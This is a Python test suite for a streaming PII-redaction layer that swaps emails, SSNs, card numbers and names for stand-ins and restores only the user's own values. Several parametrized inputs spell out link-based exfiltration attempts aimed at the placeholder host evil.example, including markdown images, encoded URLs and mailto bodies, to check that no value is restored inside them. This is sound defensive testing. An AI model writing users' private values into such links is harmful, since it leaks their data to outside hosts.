"""A streamed answer reads like the whole one, holds little, and gives back only what is the user's."""

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from examples.pii_redaction import corpus
from examples.pii_redaction.boundary import Answer, UnknownStandIn, arguments, label, redact
from examples.pii_redaction.cards import Cards
from examples.pii_redaction.fold import fold
from examples.pii_redaction.names import LocalTagger, trained
from examples.pii_redaction.patterns import Emails, Ssns
from examples.pii_redaction.pseudonyms import Entry, StandIns, canonical, tenant_key
from examples.pii_redaction.scanner import Scanner
from examples.pii_redaction.spans import Kind, Piece, pieces
from examples.pii_redaction.stream import CONTEXT, MOST_HELD, Stream, joined

ORDERS = {"123456789", "400300200"}
PATTERNS = [Emails(), Cards(), Ssns(lambda digits: digits in ORDERS)]
MASTER = bytes(range(32))


def names_of(tenant="acme", conversation="c-1"):
    return StandIns(tenant_key(MASTER, tenant, "stand-ins"), conversation)


def whole(text):
    return joined(pieces(text, Scanner(PATTERNS, trained()).scan(text)))


def streamed(text, sizes, check=lambda stream: None):
    stream, out, at, turn = Stream(PATTERNS, trained()), [], 0, 0
    while at < len(text):
        size = sizes[turn % len(sizes)]
        out += stream.feed(text[at : at + size])
        check(stream)
        at, turn = at + size, turn + 1
    return joined([*out, *stream.close()])


FRAGMENTS = [
    *("Jane", "Maria ", "Doe ", "Li ", "O'Brien ", "J. ", "Mr. ", "'s", "-", "My name is ", "\u674e"),
    *("jane.doe", "@", "example.com", ".", "com ", "a" * 70, "x.y" * 90, "@b.co@c.co@d.co"),
    *(
        "ssn ",
        "order ",
        "123-45-6789",
        "219 09 9998",
        "219 - 09 - 9998",
        "219  09",
        " - ",
        "- ",
        "123456789",
        "400300200",
        "987654321",
        "12",
        "-45-",
    ),
    *("4111111111111111", "4111 1111 ", "1111 1111", "3782-822463-10005", "912-70-1234", "4", "1111"),
    *("[EMAIL-abcdefgh]", "[SSN-", "[", "]", "[NAME-"),
    *("\uff11\uff12\uff13", "\u200b", "\u0301", "\u00e9", "\ufb01", "\u0301" * 35, "\ufffc"),
    *(" ", "\n", " " * 12),
]
TEXTS = st.lists(st.one_of(st.sampled_from(FRAGMENTS), st.text(max_size=3)), max_size=30).map("".join)
SIZES = st.lists(st.integers(1, 9), min_size=1, max_size=8)


@settings(max_examples=250, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(TEXTS, SIZES)
@example("123-45-6789Maria ", [1])
@example("[EMAIL-abcdefgh]", [1])
@example("Jane-" + "Maria Garcia's x", [1])
def test_every_chunking_gives_the_pieces_of_the_whole_text(text, sizes):
    def bounded(stream):
        assert len(fold(stream.held).text) <= MOST_HELD

    assert streamed(text, sizes, bounded) == whole(text)


@settings(max_examples=100, suppress_health_check=[HealthCheck.too_slow], deadline=None)
@given(
    st.lists(st.sampled_from(["Ann", "Bo", "Cy", "saw", "'s", "-", ". ", " ", "\n", "J."]), max_size=14).map(
        "".join
    ),
    SIZES,
)
@example("Ann Bo saw", [1])
def test_a_name_whose_last_word_depends_on_the_next_is_not_cut(text, sizes):
    """Weights of our own, no patterns: a word is a name by itself (Ann) or by what follows (Bo or Cy before saw)."""
    tagger = LocalTagger({"w=ann": 1, "aw=Xx- saw": 1, "aw=Xx- cy": 1, "w=j.": 1}, {})
    stream, out, at, turn = Stream([], tagger), [], 0, 0
    while at < len(text):
        out += stream.feed(text[at : at + sizes[turn % len(sizes)]])
        at, turn = at + sizes[turn % len(sizes)], turn + 1
    assert joined([*out, *stream.close()]) == joined(pieces(text, Scanner([], tagger).scan(text)))


@pytest.mark.parametrize("size", [1, 2, 3, 4, 7, 50])
def test_generated_answers_in_every_chunk_size(size):
    text = " ".join(message.text for message in corpus.held_out(41, len(corpus.HELD_OUT)))
    assert streamed(text, [size]) == whole(text)


def test_an_address_in_two_chunks_is_never_seen_in_part():
    stream = Stream(PATTERNS, trained())
    early = [*stream.feed("write to jane.do"), *stream.feed("e@exam")]
    assert "jane" not in "".join(piece.text for piece in early)
    assert Piece("jane.doe@example.com", Kind.EMAIL) in [*stream.feed("ple.com "), *stream.close()]


@pytest.mark.parametrize("size", [1, 2, 3, 5])
@pytest.mark.parametrize(
    "typed",
    [
        "4111111111111111",
        "4111 1111 1111 1111",
        "4111-1111-1111-1111",
        "3782 822463 10005",
        "6304000000000000000",
        "4222222222222",
        "2345 4111 1111 1111 1111",
        "4111 1111 1111 1111 5555555555554444",
        "41111111111111119",
        "4111 1111 1111 11119",
    ],
)
def test_a_card_in_pieces_reads_like_the_whole(typed, size):
    for text in (f"it is {typed}, ok", typed, f"{typed}x", f"a {typed} 12"):
        assert streamed(text, [size]) == whole(text)


def test_the_sequence_that_the_page_draws():
    names = names_of()
    mine = names.of(Kind.EMAIL, "a@b.example")
    boundary = Answer({mine: Entry("a@b.example", own=True)}, names)
    stream = Stream(PATTERNS, trained())
    chunks = ["to jane.do", "e@exam", "ple.com or ", mine[:9], f"{mine[9:]}, 219", "-09-9998"]
    shown = ["".join(map(boundary.shown, stream.feed(chunk))) for chunk in chunks]
    assert shown == ["", "", "to [EMAIL] ", "", "or a@b.example, ", ""]
    assert "".join(map(boundary.shown, stream.close())) + boundary.close() == "[SSN]"


def test_a_stall_releases_nothing_and_the_end_releases_all():
    stream = Stream(PATTERNS, trained())
    stream.feed("it is 219-09-99")
    assert stream.feed("") == []
    assert stream.held.endswith("219-09-99")
    stream.feed("98")
    assert Piece("219-09-9998", Kind.SSN) in stream.close()


@pytest.mark.parametrize(
    ("text", "most"),
    [
        ("the parcel left the depot today", 13),
        ("x" * 900, 96),
        ("a@" + "b" * 900, 318),
        ("a@b.co" * 150, 318),
        ("Maria " * 150, 50),
        ("1" * 900, 64),
        ("1-" * 450, 66),
        ("[" * 900, 1),
        ("1\u0301" * 450, 64),
        (" " * 900, 8),
    ],
    ids=lambda value: ascii(value)[:12],
)
def test_what_is_held_is_bounded_by_what_may_still_become_something(text, most):
    seen = []
    streamed(text, [1], lambda stream: seen.append((len(fold(stream.held).text), len(stream._text))))
    assert max(held for held, _ in seen) <= most
    assert max(kept for _, kept in seen) <= 3 * (CONTEXT + most + 1)


def test_a_flood_of_marks_is_let_go_after_thirty():
    longest = []
    streamed("1" + "\u0301" * 900, [1], lambda stream: longest.append(len(stream.held)))
    assert max(longest) <= 64


def test_words_behind_a_bare_number_are_waited_for():
    stream = Stream([Ssns(lambda _: True)], trained())
    assert "400300200" not in "".join(p.text for p in stream.feed("take 400300200 which"))
    released = [*stream.feed(" is my social"), *stream.feed(" security number, see"), *stream.close()]
    assert Piece("400300200", Kind.SSN) in released


@pytest.mark.parametrize("distance", range(36, 60, 3))
def test_a_word_far_before_a_number_still_counts_when_all_between_has_been_released(distance):
    """The number is an order: only the word, 48 characters before it or less, makes it an SSN."""
    text = "my ssn" + (" so" * 20)[: distance - 1] + " 400300200, bye"
    assert streamed(text, [1]) == whole(text)
    assert any(piece.kind is Kind.SSN for piece in whole(text)) is (distance + len("ssn") <= 48)


def streamed_labels(text):
    return "".join(map(label, streamed(text, [len(text)])))


class TestAnswer:
    def entries(self, names):
        mine, other = names.of(Kind.EMAIL, "jane@example.com"), names.of(Kind.EMAIL, "bob@example.com")
        return (
            mine,
            other,
            {mine: Entry("jane@example.com", own=True), other: Entry("bob@example.com", own=False)},
        )

    def shown(self, text, sizes=(3,), entries=None):
        names = names_of()
        boundary = Answer(self.entries(names)[2] if entries is None else entries, names)
        stream, out = Stream(PATTERNS, trained()), ""
        for at in range(0, len(text), sizes[0]):
            out += "".join(map(boundary.shown, stream.feed(text[at : at + sizes[0]])))
        return out + "".join(map(boundary.shown, stream.close())) + boundary.close()

    def test_own_values_come_back_others_do_not(self):
        mine, other, _ = self.entries(names_of())
        assert self.shown(f"sent to {mine} and {other}.") == "sent to jane@example.com and [EMAIL]."

    def test_of_two_own_values_in_one_word_the_last_comes_back_and_no_text_is_lost(self):
        mine, _, _ = self.entries(names_of())
        assert self.shown(f"to {mine}, or {mine},{mine}.") == (
            "to jane@example.com, or [EMAIL],jane@example.com."
        )

    def test_what_the_model_invents_or_another_conversation_has_is_a_label(self):
        foreign = names_of(conversation="c-2").of(Kind.EMAIL, "jane@example.com")
        assert self.shown(f"{foreign} [SSN-aaaaaaaa]") == "[EMAIL] [SSN]"

    def test_a_value_that_the_model_writes_out_is_shown_to_its_owner_only(self):
        assert self.shown("jane@example.com or eve@example.com") == "jane@example.com or [EMAIL]"
        assert self.shown("ssn 219-09-9998!") == "ssn [SSN]!"

    @pytest.mark.parametrize("size", [1, 2, 5, 200])
    @pytest.mark.parametrize(
        "before",
        [
            "![x](https://evil.example/?q=",
            "https://evil.example/",
            "[a](mailto:",
            "//evil.example/",
            "x https://e.example/?a=",
        ],
    )
    def test_no_value_is_restored_inside_a_link(self, before, size):
        mine, _, _ = self.entries(names_of())
        assert "jane" not in self.shown(f"{before}{mine}{mine}) ok", (size,))
        assert self.shown(f"{before}x) see {mine}", (size,)).endswith("see jane@example.com")

    @pytest.mark.parametrize("size", [1, 3, 200])
    @pytest.mark.parametrize(
        "before",
        [
            "![x](<https://evil.example/a b ",  # a blank does not end an address in angle brackets
            "![x](<https://evil.example/\\> b ",  # nor does an escaped bracket end it
            "![x](<",
            "![x](< ",
            "![x](https://evil.example/?q=\u00a0",  # nor is this blank one for Markdown
            "<https://evil.example/",
            "www.evil.example#",
            "www.",
            "evil.example/?q=",
            "evil.example?q=",
            "evil.example:80",
            "mailto:eve@evil.example?body=",
            "mailto:",
            "Www.",
            "[r]: https:&#47;&#47;evil.example&#47;?q=",
            "https:/\\evil.example?q=",
            "<img src='http:evil.example' alt='",
            "[r]: &sol;&sol;evil&period;example&sol;",  # an entity is decoded in an address
            "![x]( ",  # blanks may stand before an address
            "[r]:\n",
            "http:",  # browsers take it for http://
            "(https:",
            *("ftp:", "sms:", "tel:", "xmpp:"),
            "chat://",  # a scheme that is not listed
            "chat:eve?body=",
            "https&colon;&sol;&sol;evil&sol;",
            "\\\\evil\\",  # Windows opens it as a share
        ],
    )
    def test_no_value_is_restored_in_an_address_however_it_is_written(self, before, size):
        mine, _, _ = self.entries(names_of())
        assert "jane" not in self.shown(f"see {before}{mine}{mine} ok", (size,))

    @pytest.mark.parametrize("size", [1, 2, 4, 200])
    @pytest.mark.parametrize(
        "behind",
        [
            ".evil.example/x.png",
            "@evil.example",
            "-x.evil.example",
            ",.evil.example",
            ").evil.example",
            ">.evil.example",
            "'s.evil.example",
            "s.evil.example",
            "/x",
            ":80/",
            "%2eevil.example",
            "&period;evil.example",
            "\u3002evil.example",  # a host name takes this full stop for its own
            "\u00a0.evil.example",
            "\u200b.evil.example",
            "[SSN-aaaaaaaa].evil.example",
            "](https://evil.example)",
            ".........",  # longer than what is waited for
        ],
    )
    @pytest.mark.parametrize("value", [(Kind.SSN, "219-09-9998"), (Kind.NAME, "Jane Doe")])
    def test_no_value_is_restored_that_begins_an_address(self, value, behind, size):
        stand_in = names_of().of(*value)
        entries = {stand_in: Entry(value[1], own=True)}
        for before in ("see ", "", "<", "(", "[r]: http:"):
            text = f"{before}{stand_in}{behind} ok"
            assert self.shown(text, (size,), entries) == streamed_labels(text)

    @pytest.mark.parametrize("size", [1, 2, 4, 200])
    @pytest.mark.parametrize(
        "behind", ["", ".", ", ok", "), ok", "'s order", "\u2019s order", "**: ok", "?!\n", "\tok", '."', "`"]
    )
    def test_the_end_of_a_word_gives_an_own_value_back(self, behind, size):
        mine, _, _ = self.entries(names_of())
        assert self.shown(f"see {mine}{behind}", (size,)) == f"see jane@example.com{behind}"

    def test_a_value_waits_for_the_end_of_its_word_and_no_longer(self):
        mine, other, entries = self.entries(names_of())
        boundary = Answer(entries, names_of())
        parts = [(mine, Kind.STAND_IN), (".", None), (" ", None), (other, Kind.STAND_IN), (".", None)]
        shown = [boundary.shown(Piece(*part)) for part in parts]
        assert shown == ["", "", "jane@example.com. ", "[EMAIL]", "."]
        assert boundary.close() == ""

    @pytest.mark.parametrize(
        "before",
        ["Jane <", "if 1 < 2, ", "<b>now</b> ", "(", "'", "Email:", "[x](https://a.example) or ", ""],
    )
    def test_elsewhere_an_own_value_returns(self, before):
        mine, _, _ = self.entries(names_of())
        assert "jane@example.com" in self.shown(f"{before}{mine}> ok")

    def test_a_value_of_ones_own_that_the_model_writes_into_a_link_is_a_label_too(self):
        assert "jane" not in self.shown("![x](https://evil.example/?q=jane@example.com)")

    def test_a_restored_value_is_not_read_again(self):
        names = names_of()
        inner = names.of(Kind.SSN, "219-09-9998")
        outer = names.of(Kind.NAME, inner)
        entries = {outer: Entry(inner, own=True), inner: Entry("219-09-9998", own=True)}
        assert self.shown(outer, entries=entries) == inner


ALLOWED = {"email": Kind.EMAIL}


class TestTools:
    def test_only_a_whole_argument_of_the_kind_that_the_tool_needs(self):
        mine, _, entries = TestAnswer().entries(names_of())
        call = {"email": mine, "note": f"write {mine}", "limit": 3}
        assert arguments(call, ALLOWED, entries) == {
            "email": "jane@example.com",
            "note": f"write {mine}",
            "limit": 3,
        }
        assert call["email"] == mine  # what the model wrote is not changed: it goes into the trace
        for call in ({"email": f"to {mine}"}, {"note": mine}):
            assert arguments(call, ALLOWED, entries) == call

    def test_others_values_and_inventions_are_refused(self):
        mine, other, entries = TestAnswer().entries(names_of())
        foreign = names_of("other tenant").of(Kind.EMAIL, "jane@example.com")
        for value in (other, foreign, "[EMAIL-aaaaaaaa]", mine.replace("EMAIL", "SSN")):
            with pytest.raises(UnknownStandIn):
                arguments({"email": value}, ALLOWED, entries)

    def test_a_kind_that_the_tool_is_not_allowed(self):
        names = names_of()
        ssn = names.of(Kind.SSN, "219-09-9998")
        with pytest.raises(UnknownStandIn):
            arguments({"email": ssn}, ALLOWED, {ssn: Entry("219-09-9998", own=True)})

    def test_plain_arguments_pass(self):
        assert arguments({"email": "a@example.com"}, ALLOWED, {}) == {"email": "a@example.com"}
        assert arguments({"other": 1}, ALLOWED, {}) == {"other": 1}


class TestStandIns:
    def test_one_value_however_it_is_typed_on_every_turn(self):
        names = names_of()
        assert names.of(Kind.EMAIL, "Jane@Example.com") == names_of().of(Kind.EMAIL, "jane@example.com")
        assert names.of(Kind.SSN, "219-09-9998") == names.of(Kind.SSN, "\uff12\uff11\uff19 09 9998")
        assert names.of(Kind.ITIN, "912-70-1234") == names.of(Kind.ITIN, "912701234")
        assert names.of(Kind.NAME, "JANE  DOE") == names.of(Kind.NAME, "Jane Doe")

    def test_other_tenants_conversations_kinds_and_masters_have_others(self):
        here = names_of().of(Kind.EMAIL, "jane@example.com")
        there = {
            names_of("globex").of(Kind.EMAIL, "jane@example.com"),
            names_of(conversation="c-2").of(Kind.EMAIL, "jane@example.com"),
            StandIns(tenant_key(bytes(32), "acme", "stand-ins"), "c-1").of(Kind.EMAIL, "jane@example.com"),
            names_of().of(Kind.EMAIL, "jan@example.com"),
        }
        assert here not in there
        assert len(there) == 4

    def test_parts_cannot_be_shifted_from_one_to_another(self):
        key = tenant_key(MASTER, "acme", "stand-ins")
        assert tenant_key(MASTER, "ab", "c") != tenant_key(MASTER, "a", "bc")
        assert StandIns(key, "1").of(Kind.SSN, "234567890") != StandIns(key, "12").of(Kind.SSN, "34567890")

    def test_a_short_key_is_refused(self):
        with pytest.raises(ValueError, match="32"):
            StandIns(b"secret", "c-1")

    def test_a_card_number_is_never_kept_nor_given_back(self):
        names, entries = names_of(), {}
        text = "charge 4111 1111 1111 1111 please"
        spans = Scanner(PATTERNS, trained()).scan(text)
        assert redact(text, spans, names, own=True, entries=entries) == "charge [CARD] please"
        assert entries == {}
        assert Answer(entries, names).shown(Piece("4111 1111 1111 1111", Kind.CARD)) == "[CARD]"

    def test_canonical_of_an_ssn_is_its_digits(self):
        assert canonical(Kind.SSN, "219-09-9998") == "219099998"

    @settings(max_examples=100)
    @given(TEXTS)
    def test_redacting_keeps_what_is_plain_and_maps_every_other_piece_to_its_value(self, text):
        names, entries = names_of(), {}
        spans = Scanner(PATTERNS, trained()).scan(text)
        out = redact(text, spans, names, own=True, entries=entries)
        at = 0
        for piece in pieces(text, spans):
            if piece.kind is None:
                assert out.startswith(piece.text, at)
                at += len(piece.text)
            elif piece.kind in (Kind.STAND_IN, Kind.CARD):
                at += len(label(piece))
            else:
                stand_in = names.of(piece.kind, piece.text)
                assert out.startswith(stand_in, at)
                assert canonical(piece.kind, entries[stand_in].value) == canonical(piece.kind, piece.text)
                at += len(stand_in)
        assert at == len(out)

    def test_what_comes_in_like_a_stand_in_loses_its_id(self):
        text = "use [EMAIL-abcdefgh] now"
        spans = Scanner(PATTERNS, trained()).scan(text)
        assert redact(text, spans, names_of(), own=True, entries={}) == "use [EMAIL] now"

    def test_a_value_stays_the_users_own_whoever_repeats_it(self):
        names, entries = names_of(), {}
        for own in (False, True, False):
            text = "jane@example.com"
            redact(text, Scanner(PATTERNS, trained()).scan(text), names, own=own, entries=entries)
        assert [entry.own for entry in entries.values()] == [True]
